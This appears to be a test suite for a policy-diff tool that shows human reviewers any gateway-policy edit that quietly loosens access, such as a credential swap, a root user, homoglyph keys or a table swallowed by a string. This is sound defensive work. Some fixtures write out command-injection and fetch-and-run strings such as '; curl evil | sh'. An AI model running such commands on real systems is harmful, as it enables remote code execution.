"""Edits a reviewer tried against the diff of meaning and the text diff: each one either loosens
the policy while the words say only "changed" (or nothing a person would stop at), or makes
two different texts look alike. Beside each, the ordinary edit that must keep reading plainly."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from harness.gateway import POLICY
from safeport.action_gateway.policy.directions import undeclared_fields
from safeport.action_gateway.policy.meaning import MeaningChange, meaning_lines, meaning_of_edit
from safeport.action_gateway.policy.store import PolicyStore, policy_diff_lines
from safeport.errors import ConfigError
from safeport.shared.schemas.config import parse_gateway_policy, policy_digest

CALLERS = '\n[callers]\nrules = [{ exe = "/usr/bin/flock" }]\n'
ACCEPTED = POLICY + CALLERS


def said(proposed: str, accepted: str | None = ACCEPTED) -> tuple[MeaningChange, ...]:
    policy, _ = parse_gateway_policy(proposed)
    return meaning_of_edit(accepted, policy)


def loosened(changes: tuple[MeaningChange, ...]) -> list[str]:
    return [change.text for change in changes if change.weight == "loosened"]


# --- a loosening reached through a reference, said as a mere "changed" -----------------------


def test_a_host_moved_to_a_session_approved_credential_is_said_as_loosened_approval() -> None:
    proposed = ACCEPTED.replace('credential = "build-key"', 'credential = "session-key"', 1)
    words = loosened(said(proposed))
    assert any(
        'ssh host "build-staging"' in text and "one approval now covers" in text for text in words
    ), words


def test_a_host_moved_to_an_uncapped_credential_is_said_as_a_removed_rate_cap() -> None:
    proposed = ACCEPTED.replace('credential = "limited-key"', 'credential = "session-key"', 1)
    words = loosened(said(proposed))
    assert any(
        'ssh host "limited-host"' in text and "rate cap is REMOVED (was 2/min)" in text
        for text in words
    ), words


def test_a_service_moved_to_another_credential_of_the_same_approval_is_not_said_loosened() -> None:
    extra = '\n[credentials.other-token]\nkind = "token"\napproval = "session"\n'
    accepted = ACCEPTED + extra
    proposed = accepted.replace('credential = "deploy-token"', 'credential = "other-token"', 1)
    changes = said(proposed, accepted)
    assert not any("approval" in text or "rate cap" in text for text in loosened(changes))
    moved = '`credential` changes from "deploy-token" to "other-token"'
    assert any(moved in change.text for change in changes)


def test_a_new_host_on_a_session_credential_says_its_approval_and_cap() -> None:
    proposed = ACCEPTED + (
        '\n[ssh.hosts.extra]\naddress = "198.51.100.1"\nuser = "deploy"\n'
        'host_keys = ["ssh-ed25519 AAAA"]\ncredential = "session-key"\n'
        '[ssh.hosts.extra.commands.uptime]\nargv = ["uptime"]\n'
    )
    (host,) = [text for text in loosened(said(proposed)) if "is added" in text]
    assert "approved once per session" in host and "no rate cap" in host, host
    first = [text for text in loosened(said(proposed, None)) if 'ssh host "extra"' in text]
    assert any("approved once per session" in text for text in first), first


# --- fields whose direction cannot be computed are not said as a neutral "changed" ---------


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ('pattern = "^[a-z0-9-]{1,48}$"', 'pattern = ".*"', "params.service.pattern"),
        ('argv = ["true"]', 'argv = ["sh", "-c", "curl https://x.example | sh"]', "argv"),
        ('address = "203.0.113.7"', 'address = "198.51.100.66"', "address"),
        ('user = "deploy"', 'user = "root"', "user"),
        ('"https://api.example.com"', '"https://api.example.net"', "base_url"),
        ('method = "GET"', 'method = "DELETE"', "method"),
        ('kind = "token"', 'kind = "basic"', "kind"),
        ("approval_timeout_s = 3", "approval_timeout_s = 3600", "approval_timeout_s"),
    ],
)
def test_a_field_that_bounds_what_may_be_done_changing_is_said_as_loosening(
    old: str, new: str, field: str
) -> None:
    proposed = ACCEPTED.replace(old, new, 1)
    if field == "kind":  # a basic credential needs auth = "basic" on its service
        proposed = proposed.replace(
            'credential = "deploy-token"', 'credential = "deploy-token"\nauth = "basic"'
        )
    words = loosened(said(proposed))
    assert any(f"`{field}`" in text for text in words), (field, said(proposed))


def test_a_ca_added_to_a_service_is_said_as_loosening() -> None:
    proposed = ACCEPTED.replace(
        'credential = "deploy-token"', 'credential = "deploy-token"\nca_file = "/tmp/ca.pem"'
    )
    assert any("`ca_file`" in text for text in loosened(said(proposed))), said(proposed)


def test_a_query_parameter_removed_is_said_as_loosening() -> None:
    accepted = ACCEPTED.replace('response_fields = ["state"]', 'query = { dry_run = "true" }')
    proposed = accepted.replace('query = { dry_run = "true" }', "")
    assert any("dry_run" in text for text in loosened(said(proposed, accepted)))


def test_a_body_key_named_like_a_limit_is_not_said_as_tightened() -> None:
    """`max` in a request body is whatever the remote API says it is, not the policy's bound."""
    accepted = ACCEPTED.replace('method = "GET"', 'method = "POST"\njson_body = { max = 5 }')
    proposed = accepted.replace("json_body = { max = 5 }", "json_body = { max = 1 }")
    changes = said(proposed, accepted)
    assert not [c for c in changes if c.weight == "tightened"], changes
    assert any("`json_body` changes" in text for text in loosened(changes)), changes


def test_a_description_edit_still_reads_as_changed_only() -> None:
    proposed = ACCEPTED.replace('argv = ["uptime"]', 'argv = ["uptime"]\ndescription = "load"', 1)
    (change,) = said(proposed)
    assert change.weight == "changed" and "`description`" in change.text


def test_every_field_of_the_schema_has_a_declared_direction() -> None:
    """A field added later is said as loosening until someone decides its direction."""
    assert undeclared_fields() == []


# --- two different values never read alike -------------------------------------------------


def test_two_long_values_differing_at_the_end_never_read_alike() -> None:
    long = "x" * 200
    accepted = ACCEPTED.replace('argv = ["true"]', f'argv = ["{long}", "a", "b"]')
    proposed = accepted.replace('"a", "b"]', '"b", "a"]')
    (change,) = said(proposed, accepted)
    assert f'from ["{long}", "a", "b"] to ["{long}", "b", "a"]' in change.text, change.text
    assert change.weight == "loosened"  # an argv's order is what runs


def test_a_long_added_argv_is_said_whole() -> None:
    pad = "x" * 200
    proposed = ACCEPTED.replace('argv = ["true"]', f'argv = ["echo", "{pad}", "; curl evil | sh"]')
    assert any("; curl evil | sh" in text for text in loosened(said(proposed))), said(proposed)


# --- the text diff: a content line never passes for a header ------------------------------


def test_a_content_line_that_looks_like_a_file_header_is_still_added_or_removed() -> None:
    accepted = 'a = """\n-- x\n"""\n'
    proposed = 'a = """\n++ y\n"""\n'
    kinds = {line.text: line.kind for line in policy_diff_lines(accepted, proposed)}
    assert kinds["--- x"] == "removed" and kinds["+++ y"] == "added", kinds
    assert kinds["--- accepted"] == "file" and kinds["+++ gateway.toml"] == "file"


# --- what the parser reads and the diff of meaning agree on TOML's own features -----------


@pytest.mark.parametrize(
    "proposed",
    [
        # a multi-line string swallows the table: unchanged text lines, gone for the parser
        ACCEPTED.replace('argv = ["uptime"]', 'argv = ["uptime"]\ndescription = """', 1) + '"""\n',
        ACCEPTED.replace('argv = ["uptime"]', "argv = ['uptime']\ndescription = '''", 1) + "'''\n",
    ],
)
def test_a_table_swallowed_by_a_multi_line_string_is_said_removed(proposed: str) -> None:
    changes = said(proposed)
    assert changes[0].text.startswith("THE [callers] TABLE IS REMOVED"), changes


@pytest.mark.parametrize(
    "callers",
    [
        '\n"callers" = { rules = [{ exe = "/usr/bin/flock" }] }\n',
        "\ncallers.rules = [{ exe = '/usr/bin/flock' }]\n",
        '\n[ "callers" ]\n"rules" = [ { "exe" = "/usr/bin/flock" } ]\n',
        '\n[[callers.rules]]\nexe = "/usr/bin/flock"\n',
    ],
)
def test_other_spellings_of_the_same_table_mean_no_change(callers: str) -> None:
    proposed = POLICY.replace("[gateway]", callers.strip() + "\n\n[gateway]", 1)
    assert said(proposed) == ()


@pytest.mark.parametrize(
    "callers",
    [
        "\n[c\u0430llers]\nrules = []\n",  # a Cyrillic a
        "\n[callers\u200b]\nrules = []\n",
        '\n["callers "]\nrules = []\n',
        '\n[callers]\nrules = [{ exe = "/usr/bin/flock" }]\n[callers]\nrules = []\n',
        '\n[callers]\nrules = [{ exe = "/usr/bin/flock" }]\nrules = []\n',
        '\n[callers]\nrules = [{ exe = "/usr/bin/flock", Exe = "/x" }]\n',
    ],
)
def test_a_look_alike_or_repeated_key_is_refused_not_ignored(callers: str) -> None:
    with pytest.raises(ConfigError):
        parse_gateway_policy(POLICY + callers)


# --- the text shown and the digest accepted come from one read ----------------------------


def test_status_gives_the_text_and_its_digest_from_one_read(tmp_path: Path) -> None:
    """The file changes between two reads (here a FIFO answers each open differently): the
    digest the human accepts must be the digest of the text they were shown."""
    path = tmp_path / "gateway.toml"
    os.mkfifo(path)
    first, second = ACCEPTED, ACCEPTED.replace(CALLERS, "")

    def feed() -> None:
        for text in (first, second):
            with path.open("w") as fifo:
                fifo.write(text)

    feeder = threading.Thread(target=feed, daemon=True)
    feeder.start()
    status = PolicyStore(path).snapshot()
    assert status.file == policy_digest(str(status.file_text))
    # If the store read only once, the feeder waits to open the FIFO a second time: a reader
    # opened without waiting for a writer lets it finish, and waits for nothing if the feeder
    # is already done (whether it is cannot be told from how long it has been alive).
    reader = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        feeder.join(timeout=60)
    finally:
        os.close(reader)
    assert status.model_dump_json()  # wire-safe


def test_a_long_list_still_ends_with_how_many_loosenings_it_holds() -> None:
    """Hundreds of harmless lines scroll the one loosening off the top of the screen: the last
    line before the prompt still counts it."""
    notes = "".join(
        f'\n[ssh.hosts.session-host.commands.note{n}]\nargv = ["true"]\n' for n in range(200)
    )
    accepted = ACCEPTED + notes
    proposed = accepted.replace(CALLERS, "").replace('argv = ["true"]', 'argv = ["true", "1"]')
    policy, _ = parse_gateway_policy(proposed)
    lines = meaning_lines(meaning_of_edit(accepted, policy), first=False)
    assert lines[1].startswith("  LOOSENED   THE [callers] TABLE IS REMOVED")
    assert lines[-1].startswith("in all: 202 LOOSENED, 0 CHANGED, 0 TIGHTENED"), lines[-1]
    assert meaning_lines((), first=False)[-1].endswith("no change (only comments, layout or order)")


def test_an_accepted_policy_this_version_cannot_read_is_said_not_silently_compared() -> None:
    """Compared with the defaults instead, a rate cap only the old text set would vanish
    unsaid: the first line says the comparison is not with what was accepted."""
    old = ACCEPTED + "\n[retired]\nknob = 1\n"  # a table an older version knew
    proposed = ACCEPTED.replace("rate_per_minute = 2\n", "")
    changes = said(proposed, old)
    assert changes[0].weight == "loosened"
    assert changes[0].text.startswith("the accepted policy does not parse under this version")
    assert said(proposed, ACCEPTED)[0].text.endswith("the rate cap is REMOVED (was 2/min)")
